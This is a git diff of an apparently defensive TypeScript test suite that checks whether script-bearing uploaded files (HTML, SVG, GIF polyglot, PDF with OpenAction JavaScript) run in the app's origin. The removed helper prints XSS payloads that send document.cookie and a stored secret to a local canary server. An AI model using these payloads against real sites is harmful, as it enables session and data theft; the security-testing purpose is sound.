@@ -10,6 +10,7 @@ import {
   type SignedInOrder,
   type WaitingFile,
 } from '../../testing/factories/deliveryFactories.ts';
+import { hostileFiles } from '../../testing/factories/hostileFiles.ts';
 import { startTestApp, type TestApp } from '../../testing/app/testApp.ts';
 
 let app: TestApp;
@@ -29,7 +30,7 @@ beforeAll(async () => {
   canaryUrl = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
   app = await startTestApp();
   order = await makeSignedInOrder(app);
-  for (const [name, content] of Object.entries(hostileFiles())) {
+  for (const [name, content] of Object.entries(hostileFiles({ canaryUrl }))) {
     const { seller, globalId: orderId } = order;
     const given = { cookie: seller.cookie, orderId, name, content: Buffer.from(content) };
     const uploaded = await uploadDelivery(app, given);
@@ -48,28 +49,6 @@ afterAll(async () => {
   canary.close();
   await app.close();
 });
-
-/** Files whose content is a program, under names that are accepted. */
-function hostileFiles(): Record<string, string> {
-  const script = `localStorage.ran = 'yes'; fetch('${canaryUrl}/ran?' + encodeURIComponent(document.cookie + localStorage.secret)); alert(1);`;
-  const html = `<!doctype html><html><body><script>${script}</script><img src=x onerror="${script}"></body></html>`;
-  const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${script}"><script>${script}</script></svg>`;
-  const action = `app.alert(1); this.submitForm('${canaryUrl}/pdf'); app.launchURL('${canaryUrl}/pdf');`;
-  const pdf = `%PDF-1.7
-1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(${action.replaceAll('(', '\\(').replaceAll(')', '\\)')})>>>>endobj
-2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
-3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj
-trailer<</Root 1 0 R>>
-%%EOF`;
-  return {
-    'page.txt': html,
-    'page.pdf': html,
-    'page.mp4': html,
-    'drawing.png': svg,
-    'drawing.gif': `GIF89a=1;${script}`,
-    'book.pdf': pdf,
-  };
-}
 
 /** A page of our origin in which the fan is signed in and the browser stores a secret. */
 async function openOwnPage(): Promise<{ page: Page; dialogs: string[] }> {
@@ -122,7 +101,7 @@ describe('a delivered file with a program in it', () => {
 
   it('runs as a page without our headers, as dialog and storage show', async () => {
     const { page, dialogs } = await openOwnPage();
-    const body = hostileFiles()['page.txt'] ?? '';
+    const body = hostileFiles({ canaryUrl })['page.txt'] ?? '';
     await page.route('**/control', (route) => route.fulfill({ contentType: 'text/html', body }));
     await page.goto(`${app.url}/control`);
     await expect.poll(() => dialogs).toContain('1');
